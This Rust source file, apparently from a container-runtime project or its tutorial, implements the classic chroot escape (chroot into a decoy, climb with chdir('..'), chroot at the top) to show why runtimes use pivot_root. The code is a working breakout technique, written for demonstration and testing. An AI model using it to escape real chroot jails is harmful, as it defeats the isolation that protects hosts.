//! The classic chroot escape, kept as a demonstration of why runtimes use pivot_root.
//!
//! chroot(2) changes the root directory of a process but not its current directory. A root
//! process that chroots into a subdirectory while standing *outside* it has its cwd above
//! its new root; from there, `chdir("..")` is no longer stopped at the root (the kernel
//! only stops `..` at the process's root, which it never passes), and it climbs to the real
//! top of the mount tree. A `chroot(".")` there makes it the root again. After pivot_root
//! and a detached old root, the top of the tree is the container's own root: the climb ends
//! there.

use std::os::unix::fs::MetadataExt;
use std::path::Path;

use nix::unistd::{chdir, chroot};

use crate::{Error, Result};

/// The device and inode of a directory: what identifies "a root" across namespaces.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DirId {
    pub dev: u64,
    pub ino: u64,
}

impl DirId {
    /// Reads the identity of `path`.
    pub fn of(path: &Path) -> Result<DirId> {
        let meta = std::fs::metadata(path)
            .map_err(|e| Error::io("reading a directory's identity", path, e))?;
        Ok(DirId {
            dev: meta.dev(),
            ino: meta.ino(),
        })
    }
}

// ANCHOR: escape
/// Tries the escape from the current root, using `scratch` (a directory to create) as the
/// decoy chroot, and returns the identity of the root it ends up in. This changes the root
/// of the calling process for good: call it in a process that exits afterwards.
pub fn try_chroot_escape(scratch: &Path) -> Result<DirId> {
    std::fs::create_dir_all(scratch)
        .map_err(|e| Error::io("creating the decoy dir", scratch, e))?;
    chdir("/").map_err(|e| Error::sys_path("chdir", "going to /", Path::new("/"), e))?;
    // 1. New root below us; our cwd (/) stays above it.
    chroot(scratch)
        .map_err(|e| Error::sys_path("chroot", "entering the decoy", scratch, e))?;
    // 2. Climb: nothing stops `..`, since we are outside our own root.
    for _ in 0..256 {
        chdir("..")
            .map_err(|e| Error::sys_path("chdir", "climbing", Path::new(".."), e))?;
    }
    // 3. Wherever the climb ended becomes the root.
    chroot(".")
        .map_err(|e| Error::sys_path("chroot", "rooting at the top", Path::new("."), e))?;
    DirId::of(Path::new("/"))
}
// ANCHOR_END: escape
